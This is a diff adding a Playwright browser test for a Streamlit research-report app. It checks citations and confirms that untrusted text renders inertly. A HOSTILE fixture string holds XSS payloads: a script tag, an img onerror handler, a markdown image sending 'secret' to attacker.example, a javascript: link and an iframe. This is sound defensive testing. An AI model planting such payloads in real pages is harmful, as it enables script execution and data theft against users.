@@ -1,0 +1,213 @@
+"""The app in a real browser: `streamlit run app.py` on a loopback port, driven by headless Chromium (Playwright).
+
+Opens Benchmarks, opens a report, opens a citation and sees its quote (screenshots go to tests/artifacts/), and
+checks that hostile report and quote text renders as text: nothing loads from elsewhere and no script runs.
+Skips only when Chromium or Playwright is not installed (CI installs both).
+"""
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+from pipeline.saved_runs import save_run_file
+from pipeline.schema import Finding, Plan, Report, RunResult, Source, SubQuestion
+from tests.fakes.web_server import Route, WebServer
+
+ROOT = Path(__file__).resolve().parents[1]
+ARTIFACTS = Path(__file__).parent / "artifacts"
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+                 "--disable-component-update", "--disable-sync", "--no-first-run"]
+QUOTE = "Qdrant Cloud pricing starts at 25 dollars per month for the smallest cluster."
+HOSTILE = ('<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> '
+           '![x](http://attacker.example/?q=secret) [click](javascript:alert(1)) '
+           '<iframe src="http://attacker.example/frame"></iframe>')
+
+try:
+    from playwright.sync_api import Browser, Page, sync_playwright
+except ImportError:  # pragma: no cover - CI installs it
+    sync_playwright = None  # type: ignore[assignment]
+
+pytestmark = pytest.mark.skipif(
+    sync_playwright is None or not Path(CHROMIUM).exists(),
+    reason="needs the playwright package and Debian's chromium at /usr/bin/chromium (.ci/run installs both)")
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def _source(url: str, title: str = "Qdrant pricing", fetched_at: str = "2025-03-01T10:00:00+00:00") -> Source:
+    return Source(id="S1", url=url, final_url=url, title=title, published="2025-01-15", fetched_at=fetched_at,
+                  sha256="0" * 64, chars=300)
+
+
+def normal_run(page_url: str) -> RunResult:
+    return RunResult(
+        run_id="demo", question="What does Qdrant Cloud pricing start at?", mode="fixed", status="complete",
+        models={"lead": "claude-sonnet-5-5", "worker": "claude-haiku-5-5"},
+        plan=Plan(sub_questions=[SubQuestion(id="Q1", question="What is the entry price?")]),
+        sources=[_source(page_url)],
+        findings=[Finding(id="F1", sub_question="Q1", source="S1", claim="It starts at 25 dollars.", quote=QUOTE,
+                          start=0, end=len(QUOTE), support="supported", confidence="high")],
+        report=Report(markdown="# Qdrant Cloud pricing\n\n_Machine-assisted research report._\n\n"
+                               "Qdrant Cloud starts at 25 dollars per month for the smallest cluster [F1].\n"),
+        timings={"plan": 1.2, "research": 3.4})
+
+
+def hostile_run(page_url: str) -> RunResult:
+    """Hostile text everywhere untrusted text goes: question, title, body, list, quote, source title, gap."""
+    rr = normal_run(page_url)
+    bad = Finding(id="F2", sub_question="Q1", source="S1", claim="x", quote="The page said " + HOSTILE, start=0, end=5)
+    return rr.model_copy(update={
+        "run_id": "hostile", "question": f"Hostile {HOSTILE}", "findings": [*rr.findings, bad],
+        "sources": [_source(page_url, title=f"T {HOSTILE}", fetched_at="2025-01-01T00:00:00+00:00")],
+        "report": Report(markdown=f"# Title {HOSTILE}\n\nIt starts at 25 dollars [F1]. Also: {HOSTILE} [F2].\n\n"
+                                  f"- {HOSTILE}\n\n> {HOSTILE}\n", gaps=[f"gap {HOSTILE}"])})
+
+
+@dataclass
+class App:
+    url: str
+    source_url: str
+    outside: list[str] = field(default_factory=list)
+
+
+@pytest.fixture(scope="module")
+def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
+    tmp = tmp_path_factory.mktemp("browser")
+    with WebServer({"/qdrant": Route.html(f"<html><body><h1>Qdrant</h1><p>Intro.</p><p>{QUOTE}</p></body></html>")}) \
+            as web:
+        source_url = web.url("/qdrant")
+        save_run_file(tmp / "bench" / "suite", normal_run(source_url))
+        save_run_file(tmp / "bench" / "suite", hostile_run(source_url))
+        port = _free_port()
+        env = {**os.environ, "RESEARCH_BENCHMARK_DIR": str(tmp / "bench"), "RESEARCH_DB": str(tmp / "state" / "r.db"),
+               "ACCESS_CODE": "", "ACCESS_CODE_SECRET": ""}
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port), "--server.address",
+             "127.0.0.1", "--server.headless", "true", "--server.fileWatcherType", "none",
+             "--browser.gatherUsageStats", "false"],
+            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+        try:
+            url = f"http://127.0.0.1:{port}"
+            deadline = time.monotonic() + 60
+            while True:
+                try:
+                    with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as r:
+                        if r.status == 200:
+                            break
+                except OSError:
+                    pass
+                if proc.poll() is not None or time.monotonic() > deadline:
+                    out = proc.stdout.read().decode(errors="replace") if proc.stdout else ""
+                    pytest.fail(f"streamlit did not start:\n{out[-3000:]}")
+                time.sleep(0.3)
+            yield App(url, source_url)
+        finally:
+            proc.terminate()
+            try:
+                proc.wait(10)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait(5)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield b
+        b.close()
+
+
+@pytest.fixture()
+def page(browser: Browser, app: App) -> Iterator[Page]:
+    ctx = browser.new_context(viewport={"width": 1280, "height": 1000})
+    allowed = (app.url, app.source_url.rsplit("/", 1)[0])
+
+    def guard(route: Any) -> None:
+        if route.request.url.startswith(allowed):
+            route.continue_()
+        else:  # record it, and never let it leave the machine
+            app.outside.append(route.request.url)
+            route.abort()
+
+    ctx.route("**/*", guard)
+    pg = ctx.new_page()
+    pg.set_default_timeout(30_000)
+    yield pg
+    ctx.close()
+
+
+def test_open_benchmarks_then_a_report_then_a_citation(page: Page, app: App) -> None:
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.goto(app.url + "/")
+    page.get_by_role("heading", name="Benchmarks").wait_for()
+    page.get_by_text("2 of 2 runs shown.").wait_for()
+    page.screenshot(path=str(ARTIFACTS / "benchmarks.png"))
+    page.get_by_role("link", name="Open the report").click()
+    page.wait_for_url("**/report?run=demo")
+    page.get_by_role("heading", name="Qdrant Cloud pricing").wait_for()
+    cite = page.locator('.vb-report [data-cite="F1"]').first
+    card = cite.locator(".vb-card")
+    assert not card.is_visible()
+    cite.click()
+    card.wait_for(state="visible")
+    assert QUOTE in card.inner_text() and "Qdrant pricing" in card.inner_text() and "2025-01-15" in card.inner_text()
+    page.screenshot(path=str(ARTIFACTS / "report-citation.png"))
+    link = card.get_by_role("link", name="Open the source at this passage")
+    assert link.get_attribute("target") == "_blank" and "noopener" in (link.get_attribute("rel") or "")
+    with page.context.expect_page() as opened:
+        link.click()
+    source = opened.value
+    source.wait_for_load_state()
+    assert source.url.startswith(app.source_url + "#:~:text=Qdrant%20Cloud%20pricing")
+    assert QUOTE in source.inner_text("body")
+    assert app.outside == []
+
+
+def test_untrusted_content_renders_as_text_loads_nothing_and_runs_nothing(page: Page, app: App) -> None:
+    ARTIFACTS.mkdir(exist_ok=True)
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.add_init_script("window.__pwned = undefined;")
+    page.goto(app.url + "/report?run=hostile")
+    report = page.locator(".vb-report").first
+    report.wait_for()
+    page.get_by_text("Also:").first.wait_for()
+    text = report.inner_text()
+    for shown in ("<script>window.__pwned=1</script>", '<img src=x onerror="window.__pwned=2">',
+                  "![x](http://attacker.example/?q=secret)", "[click](javascript:alert(1))",
+                  '<iframe src="http://attacker.example/frame"></iframe>'):
+        assert shown in text
+    page.locator('.vb-report [data-cite="F2"]').first.click()
+    card = page.locator('.vb-report [data-cite="F2"] .vb-card').first
+    card.wait_for(state="visible")
+    assert "<script>window.__pwned=1</script>" in card.inner_text()
+    title = page.locator("h1").first.inner_text().replace("\u200b", "")  # zero-width spaces break autolinks
+    assert page.locator("h1").first.locator("a[href]:not([href^='#'])").count() == 0  # only its own anchor
+    assert "<script>window.__pwned=1</script>" in title and "![x](http://attacker.example/?q=secret)" in title
+    page.wait_for_timeout(1000)  # give anything that would load or run the chance to
+    page.screenshot(path=str(ARTIFACTS / "report-hostile.png"))
+    main = page.locator('[data-testid="stMain"]')
+    assert main.locator("img, iframe, object, embed, video, audio").count() == 0
+    assert page.locator(".stHtml script, .stMarkdown script").count() == 0
+    hrefs = main.locator("a[href]").evaluate_all("els => els.map(e => e.getAttribute('href'))")
+    links = [urlsplit(h) for h in hrefs if not h.startswith("#")]  # "#..." are Streamlit's heading anchors
+    assert links and {(u.scheme, u.netloc) for u in links} == {("http", urlsplit(app.source_url).netloc)}
+    assert page.evaluate("window.__pwned") is None and dialogs == []
+    assert not [u for u in app.outside if "attacker.example" in u] and app.outside == []
